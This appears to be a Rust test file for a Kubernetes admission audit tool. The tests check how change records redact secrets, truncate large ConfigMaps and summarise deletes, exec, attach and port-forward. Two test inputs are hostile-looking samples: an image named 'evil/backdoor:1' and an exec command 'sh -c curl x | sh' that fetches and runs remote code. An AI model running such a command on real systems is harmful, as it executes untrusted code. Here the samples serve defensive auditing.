//! The change record computed from admission objects, end to end.

use serde_json::{Value, json};

use super::*;
use crate::crd::MAX_CHANGE_BYTES;

fn key() -> Redactor<'static> {
    Redactor::for_target(b"test-key", "apps", "deployments", &[])
}

fn deployment(image: &str, rv: &str) -> Value {
    json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "checkout", "namespace": "prod", "resourceVersion": rv, "generation": 3,
                     "managedFields": [{"manager": "kubectl"}],
                     "annotations": {"kubectl.kubernetes.io/last-applied-configuration": "{}"}},
        "spec": {"replicas": 2, "template": {"spec": {"containers": [
            {"name": "app", "image": image}, {"name": "sidecar", "image": "envoy:1"}]}}},
        "status": {"replicas": 2}
    })
}

fn update(old: &Value, new: &Value, redactor: &Redactor<'_>) -> Change {
    record(&Action::update(old, new), redactor)
}

#[test]
fn an_update_records_only_the_desired_state_that_changes() {
    let change = update(
        &deployment("nginx:1.27", "41"),
        &deployment("evil/backdoor:1", "42"),
        &key(),
    );
    assert_eq!(change.fields.len(), 1, "{change:#?}");
    assert_eq!(
        change.fields[0].path,
        "spec.template.spec.containers[name=app].image"
    );
    assert_eq!(change.summary, "image app: nginx:1.27 → evil/backdoor:1");
    assert_eq!(change.base_resource_version.as_deref(), Some("41"));
    assert_eq!(change.truncated, None);
}

#[test]
fn a_secret_update_lists_keys_with_hashes_and_never_the_value() {
    let secret = |password: &str, extra: Option<&str>| {
        let mut data = json!({"password": password, "user": "YWRtaW4="});
        if let Some(e) = extra {
            data["token"] = json!(e);
        }
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db"}, "data": data, "stringData": {"plain": password}})
    };
    let redactor = Redactor::for_target(b"test-key", "", "secrets", &[]);
    let change = update(
        &secret("aHVudGVyMg==", None),
        &secret("czNjcjN0", Some("dG9rZW4=")),
        &redactor,
    );
    let text = serde_json::to_string(&change).unwrap();
    for plaintext in ["aHVudGVyMg", "czNjcjN0", "dG9rZW4"] {
        assert!(!text.contains(plaintext), "{plaintext} leaked: {text}");
    }
    let paths: Vec<&str> = change.fields.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["data.password", "data.token", "stringData.plain"]);
    assert!(change.fields.iter().all(|f| f.redacted));
    let pw = &change.fields[0];
    assert_ne!(pw.before, pw.after, "a changed value shows as changed");
}

#[test]
fn a_policy_path_is_redacted_like_secret_data() {
    let with_env = |token: &str| {
        let mut d = deployment("nginx:1.27", "1");
        d["spec"]["template"]["spec"]["containers"][0]["env"] =
            json!([{"name": "TOKEN", "value": token}]);
        d
    };
    let redactor = Redactor::for_target(
        b"test-key",
        "apps",
        "deployments",
        &["spec.template.spec.containers[*].env[*].value".into()],
    );
    let change = update(&with_env("old-secret"), &with_env("new-secret"), &redactor);
    let text = serde_json::to_string(&change).unwrap();
    assert!(
        !text.contains("old-secret") && !text.contains("new-secret"),
        "{text}"
    );
    assert_eq!(
        change.fields[0].path,
        "spec.template.spec.containers[name=app].env[name=TOKEN].value"
    );
    assert!(change.fields[0].redacted);
}

#[test]
fn a_huge_configmap_change_stays_under_the_cap_and_says_so() {
    let cm = |changed: &str| {
        let body: String = (0..12_000)
            .map(|i| {
                format!(
                    "key_{i:05} = {}\n",
                    if i == 9_000 {
                        changed
                    } else {
                        "value with some padding to be long"
                    }
                )
            })
            .collect();
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "big"}, "data": {"app.conf": body}})
    };
    let (old, new) = (cm("old"), cm("new"));
    assert!(new.to_string().len() > 450 * 1024);
    let change = update(
        &old,
        &new,
        &Redactor::for_target(b"k", "", "configmaps", &[]),
    );
    let size = serde_json::to_vec(&change).unwrap().len();
    assert!(size < MAX_CHANGE_BYTES, "{size}");
    let cut = change.truncated.clone().expect("marked as cut");
    assert!(cut.omitted_lines > 10_000, "{cut:?}");
    let text = render::unified(Operation::Update, &change, "configmaps/big");
    assert!(
        text.lines()
            .any(|l| l.starts_with('-') && l.ends_with("key_09000 = old"))
            && text
                .lines()
                .any(|l| l.starts_with('+') && l.ends_with("key_09000 = new")),
        "{}",
        &text[..text.len().min(2000)]
    );
    assert!(text.contains("more lines not shown"));
    assert!(
        change.summary.ends_with("(record cut to fit)"),
        "{}",
        change.summary
    );
}

#[test]
fn a_delete_records_what_goes_away_and_the_options() {
    let old = json!({"apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "checkout", "uid": "u-1", "resourceVersion": "9", "labels": {"app": "checkout"},
                     "ownerReferences": [{"kind": "Application", "name": "shop", "controller": true}]}});
    let options = json!({"kind": "DeleteOptions", "propagationPolicy": "Foreground", "gracePeriodSeconds": 0});
    let change = record(&Action::delete(&old, Some(&options)), &key());
    let d = change.delete.clone().unwrap();
    assert_eq!((d.uid.as_str(), d.kind.as_str()), ("u-1", "Deployment"));
    assert_eq!(d.owner_references, ["Application/shop (controller)"]);
    assert_eq!(d.propagation_policy.as_deref(), Some("Foreground"));
    assert_eq!(d.grace_period_seconds, Some(0));
    assert_eq!(
        change.summary,
        "delete Deployment checkout (uid u-1, propagation Foreground)"
    );
}

#[test]
fn an_exec_records_the_exact_command_line() {
    let options = json!({"kind": "PodExecOptions", "apiVersion": "v1", "command": ["sh", "-c", "curl x | sh"],
                         "container": "app", "stdin": true, "stdout": true, "tty": true});
    let change = record(&Action::connect("exec", &options), &key());
    let c = change.connect.clone().unwrap();
    assert_eq!(c.command, ["sh", "-c", "curl x | sh"]);
    assert!(c.stdin && c.tty && !c.stderr);
    assert_eq!(change.summary, "exec: sh -c 'curl x | sh' in container app");
}

#[test]
fn scaling_to_zero_reads_as_zero_not_as_removed() {
    let scale = |replicas: Option<i64>| {
        let mut spec = serde_json::Map::new();
        if let Some(n) = replicas {
            spec.insert("replicas".into(), json!(n));
        }
        json!({"apiVersion": "autoscaling/v1", "kind": "Scale",
               "metadata": {"name": "checkout", "resourceVersion": "5"}, "spec": spec})
    };
    let (old, new) = (scale(Some(1)), scale(None));
    let change = record(
        &Action {
            subresource: Some("scale"),
            ..Action::update(&old, &new)
        },
        &key(),
    );
    assert_eq!(change.summary, "spec.replicas: 1 → 0");
}

#[test]
fn attach_records_the_container_and_port_forward_the_ports() {
    let connect =
        |sub: &'static str, options: &Value| record(&Action::connect(sub, options), &key());
    let attach = connect(
        "attach",
        &json!({"kind": "PodAttachOptions", "container": "app", "stdin": true, "tty": true}),
    );
    assert_eq!(attach.summary, "attach in container app");
    assert!(attach.connect.unwrap().command.is_empty());
    let forward = connect(
        "portforward",
        &json!({"kind": "PodPortForwardOptions", "ports": [8080, 5432]}),
    );
    assert_eq!(forward.summary, "port-forward 8080, 5432");
    assert_eq!(forward.connect.unwrap().ports, [8080, 5432]);
}
